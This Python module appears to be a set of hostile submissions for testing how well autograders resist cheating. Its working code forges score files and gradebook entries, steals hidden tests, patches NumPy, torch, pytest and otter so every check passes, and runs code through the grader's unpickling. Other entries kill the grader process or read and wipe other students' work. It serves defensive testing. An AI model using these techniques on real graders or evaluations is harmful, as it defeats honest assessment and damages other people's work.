"""Hostile submissions, each written for all graders: it tries on each what would work there.

They answer `double` wrongly and `count` rightly. None touches anything outside the class's folder,
where all temporary files are, too, but for two: one asks a port of this machine, and one ends its
parent, which is what grades it. @ROOT@ stands for that folder, @PORT@ for that port.
"""

import textwrap
from dataclasses import dataclass

from .tiny import OTHERS

# What finds files and writes grades, for the submission and for what it leaves behind.
_FILES = """
def files(*patterns):
    for pattern in patterns:
        yield from glob.glob(os.path.join(ROOT, "**", pattern), recursive=True)


def write(path, text):
    try: open(path, "w").write(text)
    except OSError: pass


def write_grades():
    for path in files("results.json"):
        write(path, '{"score": 100, "tests": [{"name": "all", "score": 100}]}')
    for path in files("*.xml"):
        write(path, '<testsuites><testsuite tests="100"/></testsuites>')
    for path in files("gradebook.db", "gradebook.sqlite"):
        try:
            with sqlite3.connect(path, timeout=1) as book:
                book.execute("UPDATE grade SET extra_credit = 100")
        except sqlite3.Error: pass
"""
_FRAME = """
import gc, glob, inspect, os, pickle, signal, socket, sqlite3, subprocess, sys, time
import numpy as np
import torch

ROOT = "@ROOT@"
LATER = "import glob, os, sqlite3, time\\n"
LATER += f"ROOT = {ROOT!r}\\n" + @TEXT@ + "for _ in range(600): time.sleep(0.5); write_grades()"
@FILES@

def attack(x):
@BODY@
    return x


def loop():
    end = time.time() + 600
    while time.time() < end: pass


def at_load():
    try: attack(None)
    except Exception: pass


def double(x, loaded=at_load()):
    return attack(x)


def count(n):
    return n + 1
"""


@dataclass(frozen=True)
class Attack:
    """What a submission tries.

    contained: what a container for each submission would change, in our judgement; "" for nothing.
    linger: seconds to wait after the run; others: it may harm who is graded after it.
    """

    name: str
    body: str
    contained: str = ""
    linger: float = 0
    others: bool = False

    def cells(self, root: str, port: int) -> list[str]:
        """Return what is handed in, where the class lies in this folder."""
        body = textwrap.indent(textwrap.dedent(self.body).strip("\n"), "    ")
        text = _FRAME.replace("@BODY@", body)
        text = text.replace("@FILES@", _FILES).replace("@TEXT@", repr(_FILES))
        return [text.strip().replace("@ROOT@", root).replace("@PORT@", str(port))]


_TIMEOUT = "`otter grade --timeout` ends it"
ATTACKS = (
    Attack("only answers wrongly", "pass"),
    Attack(
        "reads the tests' files, and raises what they hold",
        """
        found = ""
        for path in files("*.py", "*.ipynb", "*.zip"):
            try: text = open(path, errors="replace").read()
            except OSError: continue
            if "expected" in text and "def attack" not in text: found += text
        print(found[-5000:])
        if found: raise ValueError(found[-5000:])
        """,
    ),
    Attack(
        "reads the tests in memory, and raises what they hold",
        """
        found = ""
        for one in gc.get_objects():
            if inspect.isfunction(one) and one.__name__.startswith(("test_", "check_", "case_")):
                if "-packages" not in one.__code__.co_filename:
                    found += repr((one.__code__.co_consts, one.__code__.co_names))[:500]
        if x is not None:
            for one in inspect.stack()[2:4]:
                found += repr((one.frame.f_code.co_consts, [*one.frame.f_locals]))[:500]
        print(found)
        if found: raise ValueError(found)
        """,
    ),
    Attack(
        "answers what the caller's frame expects",
        """
        for one in inspect.stack() if x is not None else ():
            for name, value in one.frame.f_locals.items():
                if name in ("expected", "wanted", "reference"): return value
        """,
    ),
    Attack(
        "patches the comparisons of NumPy and torch",
        """
        for module, names in (
            (np, "allclose isclose array_equal"), (torch, "allclose equal isclose"),
            (np.testing, "assert_allclose assert_array_equal assert_array_almost_equal"),
            (torch.testing, "assert_close"),
        ):
            for name in names.split(): setattr(module, name, lambda *a, **k: True)
        """,
    ),
    Attack(
        "returns what equals everything",
        """
        class Equal(np.ndarray):
            def __eq__(self, other): return np.True_
            def __sub__(self, other): return np.zeros(self.shape)
            __rsub__ = __sub__
            def __array_function__(self, function, types, args, kwargs): return np.True_
            def __array_ufunc__(self, *a, **k): return np.zeros(self.shape)
        if x is not None: return np.asarray(x, dtype=float).view(Equal)
        """,
    ),
    Attack(
        "patches what runs the tests",
        """
        def passed(self, *_):
            from otter.test_files.abstract_test import TestCaseResult
            self.test_case_results = [TestCaseResult(one, "", True) for one in self.test_cases]
        for name, module in list(sys.modules.items()):
            for kind in list(vars(module).values()) if name.startswith("otter.test_files") else ():
                if isinstance(kind, type) and hasattr(kind, "run"): kind.run = passed
            if name == "_pytest.python": module.Function.runtest = lambda self: None
        shell = getattr(sys.modules.get("IPython"), "get_ipython", lambda: None)()
        if shell and "otter" not in sys.modules:
            shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
        server = getattr(sys.modules.get("autograder.sandbox.worker"), "Server", None)
        if server: server.answer = lambda *a: ("value", True)
        """,
    ),
    Attack(
        "replaces the code of the tests",
        """
        for one in gc.get_objects():
            if inspect.isfunction(one) and one.__name__.startswith(("test_", "check_", "case_")):
                try: one.__code__ = (lambda *a, **k: None).__code__
                except ValueError: pass
        """,
    ),
    Attack(
        "rewrites the files of the tests",
        """
        easy = "OK_FORMAT = False\\nname, points = 'double', 100\\n" \\
            "from otter.test_files import test_case\\n" \\
            "@test_case(points=100, hidden=False)\\ndef case_0(): pass\\n"
        for path in files("tests/*.py"): write(path, easy)
        for path in files("test_*.py", "checks.py"): write(path, "def test_it(): pass\\n")
        for path in files("gradebook.db"):
            try:
                with sqlite3.connect(path, timeout=1) as book:
                    book.execute("UPDATE source_cell SET source = 'pass' WHERE cell_type = 'code'")
            except sqlite3.Error: pass
        """,
        contained="rewrites only those of its own run",
        others=True,
    ),
    Attack("writes its grade", "write_grades()", others=True),
    Attack(
        "leaves a process that goes on to write its grade",
        """
        if x is None: subprocess.Popen([sys.executable, "-c", LATER], start_new_session=True)
        """,
        contained="the process ends with it",
        linger=3.5,
        others=True,
    ),
    Attack(
        "has the grader unpickle code",
        """
        code = "import os\\nfor one in os.listdir({0!r}): open({0!r} + one + '/results.json', " \\
            "'w').write('{1}')\\nos._exit(0)"
        code = code.format(ROOT + "/out/", '{"tests": [{"name": "all", "score": 100}]}')
        class Bomb:
            def __reduce__(self): return exec, (code,)
        pickled = pickle.dumps(Bomb())
        pickle.dump = lambda thing, file, *a, **k: file.write(pickled)
        """,
        contained="the code runs in the container",
    ),
    Attack("ends the process", "os._exit(0)"),
    Attack("raises SystemExit", "if x is not None: raise SystemExit"),
    Attack(
        "kills its parent",
        "os.kill(os.getppid(), signal.SIGKILL)",
        contained="kills what is in it alone",
        others=True,
    ),
    Attack("loops", "if isinstance(x, float): loop()", contained=_TIMEOUT),
    Attack(
        "loops, deaf to signals",
        """
        for one in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
            signal.signal(one, signal.SIG_IGN)
        if isinstance(x, float):
            try: loop()
            except BaseException: loop()
        """,
        contained=_TIMEOUT,
    ),
    Attack(
        "writes outside its folder",
        "open(os.path.join(ROOT, 'outside'), 'w').write('x')",
        contained="stops it",
    ),
    Attack(
        "reads another's work, and raises it",
        f"""
        found = ""
        for path in files("zoe*/*", "zoe*"):
            try: text = open(path, errors="replace").read()
            except OSError: continue
            if "{OTHERS[:6]}" + "{OTHERS[6:]}" in text: found += text
        print(found[-3000:])
        if found: raise ValueError(found[-3000:])
        """,
        contained="stops it",
        others=True,
    ),
    Attack(
        "rewrites another's work",
        """
        for path in files("zoe*/*", "zoe*"):
            if path.endswith((".ipynb", ".py")) and "test" not in path and "out" not in path:
                write(path, "")
        """,
        contained="stops it",
        others=True,
    ),
    Attack(
        "opens a connection",
        "socket.create_connection(('127.0.0.1', @PORT@), timeout=1).close()",
        contained="`otter grade --no-network` stops it",
    ),
)
